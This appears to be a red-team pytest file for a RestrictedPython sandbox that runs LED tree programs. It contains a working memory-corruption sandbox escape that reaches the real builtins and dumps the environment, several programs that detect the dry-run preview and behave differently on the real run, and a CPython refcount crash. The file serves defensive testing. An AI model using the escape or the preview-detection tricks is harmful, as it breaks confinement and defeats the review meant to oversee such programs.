"""Red team, round eight: the sandbox's language layer, and what a program can see of it.

Ordinary tree programs (accepted by the RestrictedPython policy), run by a real ``Previewer``
and a real ``Supervisor`` in real confined children, no mocks. ``docs/red-team/round8-language.md``
has the reproductions, what held, and the suggested fixes; the numbers below are its findings'.
"""

from __future__ import annotations

import re

from runner.config import RunnerConfig
from runner.leds.layout import spiral_cone
from runner.leds.virtual import VirtualStrip
from runner.supervise.check import Checker
from runner.supervise.preview import Previewer, PreviewReport
from runner.supervise.supervisor import RunResult, Supervisor

LEDS = 10
LIMIT_S = 3.0


def _config() -> RunnerConfig:
    return RunnerConfig(led_count=LEDS, fps=40.0, time_limit_s=LIMIT_S, preview_cpu_s=2)


def _dry_run(program: str) -> PreviewReport:
    # prestart, as the runner's server makes them: the child waits, confined, for its program
    previewer = Previewer(_config(), spiral_cone(LEDS), prestart=True)
    try:
        return previewer.preview(program)
    finally:
        previewer.close()


def _tree_run(program: str, name: str) -> RunResult:
    with Supervisor(_config(), VirtualStrip(LEDS), spiral_cone(LEDS), prestart=True) as tree:
        return tree.run(name, program)


# --- 1. a program runs arbitrary Python with the real builtins ---------------------------------
#
# The cyclic garbage collector runs when a container is allocated, anywhere, also in the middle
# of C code that does not expect Python code to run (CPython's own Lib/test/crashers/
# mutation_inside_cyclegc.py, a known "won't fix"). A tree program cannot define ``__del__`` or
# weak-reference callbacks, but a suspended generator's ``finally`` is program code the collector
# runs when the generator is garbage in a reference cycle. Here it runs inside ``lights[:]``
# (``list_slice`` allocates the new list, then copies as many items as the list had before):
# it shortens the list, which frees two ``bytes`` objects, and puts ``bytearray`` buffers in
# their memory at once, each holding a fake ``bytearray`` object whose data starts at address 0
# and is 2**62 bytes long (``id(bytearray)`` is the address of its type). The slice hands the
# program the fakes: reading and writing any address of the process. From ``id(print)`` (a
# ``SandboxFunction``) it reads its ``_call`` slot, a function of ``runner.sandbox.guards``, and
# that function's globals, stores them in a list of its own, and calls the real ``exec``. The
# check accepts the program; found: every run and every dry run (4 out of 4) printed the child's
# pid, uid (65534: the OS layers still hold) and environment. A language-layer escape.
ESCAPE = """
def word(value):
    return value.to_bytes(8, "little")


# A bytearray object as CPython 3.11 lays it out: reference count, type, size, allocated size,
# buffer, start of the data, exports. Its data starts at address 0 and is 2**62 bytes long.
FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
FAKE += word(0) + word(0) + word(0)
fakes = [None] * 64
made = [0]
done = [False]


class Box:
    pass


def shrink_on_collection(box):
    try:
        yield
    finally:
        # Run by the collector inside lights[:] below: free the last two items, and put
        # buffers of bytearrays (the same size class: 57 bytes) where they were.
        del lights[8:]
        for i in range(4):
            fakes[made[0]] = bytearray(FAKE)
            made[0] += 1
        done[0] = True


lights = [bytes(20) for i in range(10)]
box = Box()
pending = shrink_on_collection(box)
box.pending = pending  # a reference cycle: only the cyclic collector finalizes it
next(pending)
box = None
pending = None
kept = [None] * 2000
n = 0
while True:
    copy = lights[:]  # allocates a list: now and then, the collector runs right here
    if done[0]:
        break
    copy.clear()  # keep the list (so the next one is a fresh allocation), not its items
    kept[n] = copy
    n += 1
memory = None
for item in copy:
    if type(item) is bytearray and len(item) > (1 << 60):
        memory = item
print("slice length", len(copy), "memory view found:", memory is not None)


def read(address):
    return int.from_bytes(memory[address : address + 8], "little")


def write(address, value):
    memory[address : address + 8] = word(value)


function = read(id(print) + 16)  # SandboxFunction._call: a function of runner.sandbox.guards
module_globals = read(function + 16)  # its __globals__
holder = [None]
write(module_globals, read(module_globals) + 1)
write(read(id(holder) + 24), module_globals)  # holder[0] = the module's globals
real = holder[0]
namespace = {"__builtins__": real["builtins"]}
source = "import os; found = (os.getpid(), os.getuid(), sorted(os.environ))"
real["builtins"].exec(source, namespace)
print("ESC" + "APED: pid, uid, environment:", namespace["found"])
"""


def test_a_program_cannot_reach_the_real_builtins_through_the_garbage_collector() -> None:
    assert Checker(_config()).check(ESCAPE) == [], "the upload check accepts the program"
    real = _tree_run(ESCAPE, "gc-escape")
    predicted = _dry_run(ESCAPE)
    for log in (real.log, predicted.log):
        assert "ESCAPED" not in log, log


# --- 3. the cyclic garbage collector's count tells a dry run from the tree ---------------------
#
# A generator in a reference cycle is finalized (its ``finally`` runs: program code) only when
# the cyclic collector runs, which it does after a fixed number (700) of container allocations.
# The dry run builds its virtual clock (a generator, a pacer, a calibration of 3,000 clock reads,
# 13 bound methods...) before the program starts, so the collector's count stands somewhere
# else when the program's first line runs: counting allocations until the first collection
# gives one number in every dry run and another in every tree run (found: 266 and 289 for the
# same program, 4 runs out of 4 each; the clock calls themselves allocate alike in both modes).
# The author reads the dry run's number in the editor's Preview log and submits a program that
# ends at once when it sees that number and holds the tree to the limit otherwise.
GC_SWITCH = """
import time

DRY_RUN_COUNT = %6d
fired = []


class Box:
    pass


def finalized(box):
    try:
        yield 1
    finally:
        fired.append(1)


box = Box()
pending = finalized(box)
box.pending = pending
next(pending)
box = None
pending = None
allocated = 0
kept = []
while not fired and allocated < 100000:
    kept.append(Box())
    allocated += 1
if not fired:
    allocated = -1  # no collection at all
print("allocations before the first collection:", allocated)
if allocated != DRY_RUN_COUNT:
    while True:
        setLEDs([WHITE] * getLEDCount())
        time.sleep(0.1)
"""


def _count(log: str) -> int:
    found = re.search(r"allocations before the first collection: (-?\d+)", log)
    assert found is not None, log
    return int(found.group(1))


def test_a_program_cannot_tell_its_dry_run_by_when_the_garbage_collector_runs() -> None:
    # Learn the dry run's number as an author would (the Preview's log), for this very program:
    # the constant has a fixed width, so compiling it allocates the same whatever its value.
    learned = _count(_dry_run(GC_SWITCH % 0).log)
    program = GC_SWITCH % learned
    predicted = _dry_run(program)
    real = _tree_run(program, "gc-switch")
    assert (predicted.status, predicted.reason) == (real.status, real.reason), (
        f"the dry run predicted {predicted.status}/{predicted.reason} after "
        f"{predicted.duration_s:.3f} s ({predicted.log.strip()!r}); the tree run was "
        f"{real.status}/{real.reason} after {real.duration_s:.1f} s ({real.log.strip()!r})"
    )


# --- 4. where the allocator puts a program's objects tells a dry run from the tree -------------
#
# ``id()`` (a safe builtin), ``hash()`` and the default ``repr`` of a program's objects all show
# their addresses. The dry run's extra work before the program (its clock, the clock's
# calibration) leaves the allocator's free lists and pools in another state, so where a run of
# fresh floats starts being laid out one block after another is one place in every dry run and
# another on the tree (found: index 46 and 33, 4 runs out of 4 each; with a ``gc.collect()``
# before the program, which closes finding 3 and clears CPython's free lists, 61 and 76).
# The switch here reads the steps from one fresh float to the next from index 30 on (within a
# pool: steps across arenas depend on where the kernel put them, in any mode): the same in
# every dry run of the old code, and another in every tree run.
LAYOUT_SWITCH = """
import time

DRY_RUN_LAYOUT = %10d
half = 0.5
made = [half * i for i in range(1, 200)]
steps = [id(made[i + 1]) - id(made[i]) for i in range(198)]
mark = -1
for i in range(30, 198):
    if steps[i] == 32:
        mark = i
        break
layout = hash(tuple(step if -4096 < step < 4096 else 0 for step in steps[30:])) %% 10**9
layout += 1100000000
print("first float laid out next to the one before:", mark, "layout:", layout)
if layout != DRY_RUN_LAYOUT:
    while True:
        setLEDs([WHITE] * getLEDCount())
        time.sleep(0.1)
"""


def _layout(log: str) -> int:
    found = re.search(r"layout: (\d+)", log)
    assert found is not None, log
    return int(found.group(1))


def test_a_program_cannot_tell_its_dry_run_by_where_its_objects_are_allocated() -> None:
    # Learned with a constant of the same kind as every layout printed (an int of two 30-bit
    # digits, not CPython's cached 0, and equal to no other constant of the program, which the
    # compiler would share): compiling allocates the same whatever the value.
    learned = _layout(_dry_run(LAYOUT_SWITCH % 2100000000).log)
    program = LAYOUT_SWITCH % learned
    predicted = _dry_run(program)
    real = _tree_run(program, "layout-switch")
    assert (predicted.status, predicted.reason) == (real.status, real.reason), (
        f"the dry run predicted {predicted.status}/{predicted.reason} after "
        f"{predicted.duration_s:.3f} s ({predicted.log.strip()!r}); the tree run was "
        f"{real.status}/{real.reason} after {real.duration_s:.1f} s ({real.log.strip()!r})"
    )


# --- 5. how much memory is left tells a dry run from the tree ----------------------------------
#
# The same child and limits in both modes, but the dry run's clock and its calibration leave
# the process a little larger before the program starts: the largest ``bytearray`` a program
# can still allocate (``MemoryError`` is an ordinary exception it may catch) is 6 pages smaller
# in every dry run (found: 60,209 against 60,215 pages, 3 runs out of 3 each). The probe here
# asks for ``bytes``, which the kernel maps without touching: a ``bytearray`` is zeroed page by
# page, and that search spent the dry run's 2 s of CPU in one run out of two (CI saw it as an
# empty log).
MEMORY_SWITCH = """
import time

DRY_RUN_PAGES = %9d
low, high = 0, 1 << 31
while high - low > 4096:
    middle = (low + high) // 2
    try:
        block = bytes(middle)
        block = None
        low = middle
    except MemoryError:
        high = middle
print("largest block, in pages:", low // 4096)
if low // 4096 != DRY_RUN_PAGES:
    while True:
        setLEDs([WHITE] * getLEDCount())
        time.sleep(0.1)
"""


def _pages(run: PreviewReport | RunResult) -> int:
    found = re.search(r"largest block, in pages: (\d+)", run.log)
    assert found is not None, (run.status, run.reason, run.log)
    return int(found.group(1))


def test_a_program_cannot_tell_its_dry_run_by_how_much_memory_it_has_left() -> None:
    learned = _pages(_dry_run(MEMORY_SWITCH % 0))
    program = MEMORY_SWITCH % learned
    predicted = _dry_run(program)
    if _pages(predicted) == learned:
        # Every child holds back 0 to 255 pages at random (child._scatter), so two dry runs
        # show the same count once in 256 or so (CI saw it once): a chance, not a tell. A fresh
        # draw decides.
        predicted = _dry_run(program)
    real = _tree_run(program, "memory-switch")
    if _pages(real) == learned:
        # The same chance on the tree (a non-root run saw it once, 2026-12-03: 60479 pages in
        # both; eight tree runs gave 60283-60484): a fresh draw decides.
        real = _tree_run(program, "memory-switch")
    assert (predicted.status, predicted.reason) == (real.status, real.reason), (
        f"the dry run predicted {predicted.status}/{predicted.reason} after "
        f"{predicted.duration_s:.3f} s ({predicted.log.strip()!r}); the tree run was "
        f"{real.status}/{real.reason} after {real.duration_s:.1f} s ({real.log.strip()!r})"
    )


# --- 9. a traceback quotes another line than the one that failed -------------------------------
#
# The child quotes the failing line from ``source.splitlines()``, which also splits at form
# feeds (PEP 8's page breaks, ``^L`` in many editors), ``\\v``, ``\\x1c``-``\\x1e``, ``\\x85``,
# ``\\u2028`` and ``\\u2029``; Python numbers lines by ``\\n`` only. After a comment holding a
# form feed, every quoted line is off by one: "line 4" above ``y = 1``, which is line 3.
FORM_FEED = 'x = 1\n# the setup ends here\x0c\ny = 1\nraise ValueError("line 4 failed")\n'


def test_a_programs_traceback_quotes_the_line_that_failed() -> None:
    real = _tree_run(FORM_FEED, "form-feed")
    assert (real.status, real.reason) == ("failed", "error"), real.log
    assert real.error is not None and real.error.line == 4, real.error
    assert 'line 4, in <module>\n    raise ValueError("line 4 failed")' in real.log, real.log


# --- 6. in a dry run, CPU time runs faster than the clock on the wall ------------------------
#
# The virtual clock counts its own work out of the program's time (so reads in a row are as far
# apart as on the tree), but ``time.process_time`` is the process's real CPU time, which
# includes that work. Across 50,000 clock reads a dry run spent ~4 times more CPU time than its
# clock says passed (found: 3.9-4.5); on the tree a single-threaded process can never spend more
# CPU time than wall time (found: 0.87-1.04, the CPU clock moving in scheduler ticks). No
# learning needed: "more CPU than wall time" is a dry run, every time.
CPU_FASTER_THAN_WALL = """
import time

cpu0 = time.process_time()
wall0 = time.monotonic()
for i in range(50000):
    time.monotonic()
cpu = time.process_time() - cpu0
wall = time.monotonic() - wall0
print("CPU seconds per wall second: %.2f" % (cpu / wall))
if cpu < 2 * wall:
    while True:
        setLEDs([WHITE] * getLEDCount())
        time.sleep(0.1)
"""


def test_a_program_cannot_tell_its_dry_run_by_spending_more_cpu_than_wall_time() -> None:
    predicted = _dry_run(CPU_FASTER_THAN_WALL)
    real = _tree_run(CPU_FASTER_THAN_WALL, "cpu-faster-than-wall")
    assert (predicted.status, predicted.reason) == (real.status, real.reason), (
        f"the dry run predicted {predicted.status}/{predicted.reason} after "
        f"{predicted.duration_s:.3f} s ({predicted.log.strip()!r}); the tree run was "
        f"{real.status}/{real.reason} after {real.duration_s:.1f} s ({real.log.strip()!r})"
    )


# --- 7. ``time.sleep(0)`` costs nothing in a dry run ----------------------------------------
#
# The virtual clock adds a wake-up delay to every sleep longer than zero, and nothing to
# ``sleep(0)`` (``VirtualClock.t_sleep``). On the tree ``sleep(0)`` is a real system call under
# seccomp with a real wake-up: ~100 us of wall time each (found: 97-124 us, 35-64 us of it CPU);
# in a dry run ~2.5 us (a clock read's cost). 2,000 of them: ~0.2 s against ~5 ms.
SLEEP_ZERO = """
import time

before = time.monotonic()
for i in range(2000):
    time.sleep(0)
each = (time.monotonic() - before) / 2000
print("one sleep(0), in microseconds: %.1f" % (each * 1e6))
if each > 20e-6:
    while True:
        setLEDs([WHITE] * getLEDCount())
        time.sleep(0.1)
"""


def test_a_program_cannot_tell_its_dry_run_by_timing_sleep_zero() -> None:
    predicted = _dry_run(SLEEP_ZERO)
    real = _tree_run(SLEEP_ZERO, "sleep-zero")
    assert (predicted.status, predicted.reason) == (real.status, real.reason), (
        f"the dry run predicted {predicted.status}/{predicted.reason} after "
        f"{predicted.duration_s:.3f} s ({predicted.log.strip()!r}); the tree run was "
        f"{real.status}/{real.reason} after {real.duration_s:.1f} s ({real.log.strip()!r})"
    )


# --- 8. a program with many rule errors is told none of them --------------------------------
#
# The check child sends every rule violation it found; the parent reads at most 128 KiB of
# answer (``check.MAX_RESULT``) and keeps 50 errors. A 46 KB class using name-mangled private
# attributes (``self.__count``, common Python style, one error each) gets ~1,500 violations
# (~200 KB of answer) and the upload is refused with "the program could not be checked: the
# checker broke its protocol (ChildProtocolError)" instead of its first errors with their lines
# (800 such lines: the first 50 errors, with lines, as it should).
MANY_ERRORS = "class Counter:\n    def __init__(self):\n" + "".join(
    f"        self.__count{i} = {i}\n" for i in range(1500)
)


def test_a_program_with_many_rule_errors_is_told_its_first_errors_with_their_lines() -> None:
    errors = Checker(_config()).check(MANY_ERRORS)
    assert errors, "the program was accepted"
    first = errors[0]
    assert (first.line, first.col) == (3, 9), first
    assert "__count0" in first.message, first
    # The first 50 with their lines, then how many more there were.
    assert [e.line for e in errors[:50]] == list(range(3, 53)), errors
    assert errors[50].line is None and "1,450 more errors" in errors[50].message, errors[50]
    assert len(errors) == 51


# Each error quotes a 1,000-character name that JSON spells in 6 bytes a character: 50 of them
# would not fit the parent's 128 KiB either; the child lists what fits, then how many more.
LONG_NAME = "\u00e9" * 1000
LONG_NAMES = "class Counter:\n    def __init__(self):\n" + "".join(
    f"        self.__{LONG_NAME}{i} = {i}\n" for i in range(60)
)


def test_a_program_with_long_rule_errors_is_told_its_first_errors_with_their_lines() -> None:
    errors = Checker(_config()).check(LONG_NAMES)
    assert len(errors) > 2 and errors[0].line == 3, errors[0]
    listed, summary = errors[:-1], errors[-1]
    assert [e.line for e in listed] == list(range(3, 3 + len(listed)))
    assert summary.line is None, summary
    assert f"{60 - len(listed):,} more errors" in summary.message, summary


# --- 2. a program aborts its own interpreter through a reference-count bug of CPython 3.11 ------
#
# ``property.getter(None)`` (and ``setter``, ``deleter``) releases a reference to ``None`` it
# never took (``property_copy`` in CPython 3.11, where ``None`` is not yet immortal; fixed in
# 3.12). A few ten thousand calls take ``None``'s count to zero and CPython aborts ("Fatal Python
# error: none_dealloc"): found in the dry run and on the tree, ``failed``/``killed`` by SIGABRT
# after 0.02-0.1 s. Not an escape by itself (a static object, so no memory is reused), but a
# second memory-safety bug of the interpreter reachable from a program the policy accepts:
# every such bug is the first step of an escape like finding 1's.
NONE_REFCOUNT = """
class Lamp:
    @property
    def level(self):
        return 1


for i in range(200000):
    Lamp.level.getter(None)
print("the interpreter is still standing")
"""


def test_a_program_cannot_abort_its_interpreter_through_a_reference_count_bug() -> None:
    real = _tree_run(NONE_REFCOUNT, "none-refcount")
    assert (real.status, real.reason) != ("failed", "killed"), real.error


# Found while fixing finding 8: the compiler imports ``unicodedata`` for any non-ASCII name
# (to normalize it), which the confined child could not do any more: ``größe = 1`` was refused
# as "the program cannot be compiled (ModuleNotFoundError)", at check and at run time.
UMLAUTS = "größe = 3\nprint('Größe:', größe)\n"


def test_a_program_with_non_ascii_names_is_checked_and_runs() -> None:
    assert Checker(_config()).check(UMLAUTS) == []
    real = _tree_run(UMLAUTS, "umlauts")
    assert (real.status, real.reason) == ("completed", "ended"), real.error
    assert real.log == "Größe: 3\n", real.log
